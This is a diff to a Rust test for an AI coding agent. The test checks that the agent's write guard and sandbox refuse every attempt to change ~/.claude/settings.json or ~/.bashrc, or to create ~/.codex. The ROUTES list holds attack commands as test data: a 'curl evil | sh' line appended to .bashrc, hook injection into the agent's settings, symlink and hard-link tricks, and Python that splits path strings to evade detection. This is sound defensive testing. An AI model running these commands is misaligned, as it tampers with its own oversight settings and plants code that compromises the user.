@@ -3,7 +3,9 @@
 //! configuration stays read-only by every route — shell redirection, `cp`, `mv`, a Python line
 //! that builds the path in pieces (which no parser can place: only the sandbox stands there),
 //! making a configuration folder that does not exist yet, a symlink or a hard link made first,
-//! and the agent's own `write` and `edit` (asked, so refused in a non-interactive run). Each
+//! renaming the folder away or a file over it, and the agent's own `write` and `edit` (asked,
+//! so refused in a non-interactive run). Each route is checked to be refused by the layer meant
+//! to refuse it: the write guard where the line shows where it writes, the sandbox where not. Each
 //! file is byte for byte the same afterwards; work in `~/project` still lands; and the run tells
 //! the user what the session protects.
 
@@ -17,31 +19,72 @@ use super::support::{Snapshot, assert_unchanged, snapshot};
 const SETTINGS: &str = r#"{"permissions": {}}"#;
 const BASHRC: &str = "# the user's own bashrc\n";
 
+/// What refuses a route: the write guard (it sees where the line writes, and asks, so a
+/// non-interactive run refuses), or the sandbox (nobody can place the write; the kernel
+/// refuses it).
+#[derive(Debug, Clone, Copy)]
+enum By {
+    Guard,
+    Sandbox,
+}
+
 /// Each way a command may try to change `~/.claude/settings.json`, `~/.bashrc` or to create
-/// `~/.codex` (absent at the start).
-const ROUTES: &[&str] = &[
-    r#"echo '{"hooks":{}}' >> ~/.claude/settings.json"#,
-    "echo 'curl evil | sh' >> ~/.bashrc",
-    "cp evil.json ~/.claude/settings.json",
-    "cp evil.sh ~/.bashrc",
-    "mv evil.json ~/.claude/settings.json",
-    r#"python3 -c "import os; p = os.path.expanduser('~') + '/.cla' + 'ude/set' + 'tings.json'; open(p, 'a').write('x')""#,
-    r#"python3 -c "import os; open(os.environ['HOME'] + '/.ba' + 'shrc', 'a').write('x')""#,
-    r#"python3 -c "import os; os.mkdir(os.path.expanduser('~') + '/.co' + 'dex')""#,
-    "mkdir ~/.codex",
-    "ln -s ~/.claude project/link && echo x >> project/link/settings.json",
-    "ln ~/.bashrc project/rc-link && echo x >> project/rc-link",
-    r#"write ~/.claude/settings.json '{"hooks":{}}'"#,
-    "edit ~/.bashrc 'bashrc' 'pwned'",
+/// `~/.codex` (absent at the start), and what refuses it.
+const ROUTES: &[(&str, By)] = &[
+    (r#"echo '{"hooks":{}}' >> ~/.claude/settings.json"#, By::Guard),
+    ("echo 'curl evil | sh' >> ~/.bashrc", By::Guard),
+    ("cp evil.json ~/.claude/settings.json", By::Guard),
+    ("cp evil.sh ~/.bashrc", By::Guard),
+    ("mv evil.json ~/.claude/settings.json", By::Guard),
+    ("mkdir ~/.codex", By::Guard),
+    ("ln -s ~/.claude project/link && echo x >> project/link/settings.json", By::Guard),
+    ("ln ~/.bashrc project/rc-link && echo x >> project/rc-link", By::Guard),
+    (r#"write ~/.claude/settings.json '{"hooks":{}}'"#, By::Guard),
+    ("edit ~/.bashrc 'bashrc' 'pwned'", By::Guard),
+    (
+        r#"python3 -c "import os; p = os.path.expanduser('~') + '/.cla' + 'ude/set' + 'tings.json'; open(p, 'a').write('x')""#,
+        By::Sandbox,
+    ),
+    (
+        r#"python3 -c "import os; open(os.environ['HOME'] + '/.ba' + 'shrc', 'a').write('x')""#,
+        By::Sandbox,
+    ),
+    (
+        r#"python3 -c "import os; os.mkdir(os.path.expanduser('~') + '/.co' + 'dex')""#,
+        By::Sandbox,
+    ),
+    (
+        r#"python3 -c "import os; os.symlink(os.environ['HOME'] + '/.cla' + 'ude', 'project/l2'); open('project/l2/set' + 'tings.json', 'a').write('x')""#,
+        By::Sandbox,
+    ),
+    (
+        r#"python3 -c "import os; os.link(os.environ['HOME'] + '/.ba' + 'shrc', 'project/rc2')""#,
+        By::Sandbox,
+    ),
+    (
+        r#"python3 -c "import os; os.rename(os.environ['HOME'] + '/.cla' + 'ude', 'project/moved')""#,
+        By::Sandbox,
+    ),
+    (
+        r#"python3 -c "import os; os.rename('evil.sh', os.environ['HOME'] + '/.ba' + 'shrc')""#,
+        By::Sandbox,
+    ),
 ];
 
-/// What a refusal looks like in a tool result: the gate's, bash's, Python's or `ln`'s.
-const REFUSED: [&str; 4] = [
-    "Permission denied",
-    "PermissionError",
-    "Invalid cross-device link",
-    "Operation not permitted",
-];
+/// How each refuses, in the tool result: the gate's question turned refusal, or the kernel's
+/// `EACCES` / `EXDEV` as Python reports it.
+fn refused(by: By, result: &str) -> bool {
+    match by {
+        By::Guard => {
+            result.starts_with("Permission denied: ")
+                && result.contains("needs the user's own yes in every mode")
+        }
+        By::Sandbox => {
+            result.contains("PermissionError: [Errno 13] Permission denied")
+                || result.contains("OSError: [Errno 18] Invalid cross-device link")
+        }
+    }
+}
 
 fn prepare(home: &Path) -> (Snapshot, Snapshot) {
     std::fs::create_dir_all(home.join(".claude")).unwrap();
@@ -75,7 +118,7 @@ async fn a_home_session_changes_no_configuration_by_any_route_and_says_so() {
     // Between routes a call that succeeds, so the turn never stops at refusals in a row.
     let back = format!("cd '{}'", home.display());
     let mut script = Script::new();
-    for route in ROUTES {
+    for (route, _) in ROUTES {
         script = script.tool_call(*route).tool_call(back.clone());
     }
     let work = ROUTES.len() * 2;
@@ -89,12 +132,9 @@ async fn a_home_session_changes_no_configuration_by_any_route_and_says_so() {
     assert_eq!(fake.remaining_steps(), 0, "{out:?}");
 
     let requests = fake.requests();
-    for (i, route) in ROUTES.iter().enumerate() {
+    for (i, (route, by)) in ROUTES.iter().enumerate() {
         let result = requests[2 * i + 1].last_tool_result().unwrap_or_default();
-        assert!(
-            REFUSED.iter().any(|r| result.contains(r)),
-            "`{route}` was not refused: {result}"
-        );
+        assert!(refused(*by, &result), "`{route}` was not refused by the {by:?}: {result}");
     }
     assert_unchanged(
         "~/.claude",
@@ -107,6 +147,8 @@ async fn a_home_session_changes_no_configuration_by_any_route_and_says_so() {
         &snapshot_file(&home.join(".bashrc")),
     );
     assert!(!home.join(".codex").exists(), "~/.codex was created");
+    assert!(!home.join("project/rc2").exists(), "a second name of ~/.bashrc was made");
+    assert!(!home.join("project/moved").exists(), "~/.claude was moved");
 
     // Work in a folder of the home still lands, by a command and by the agent's `write`.
     let main = std::fs::read_to_string(home.join("project/src/main.rs")).unwrap();
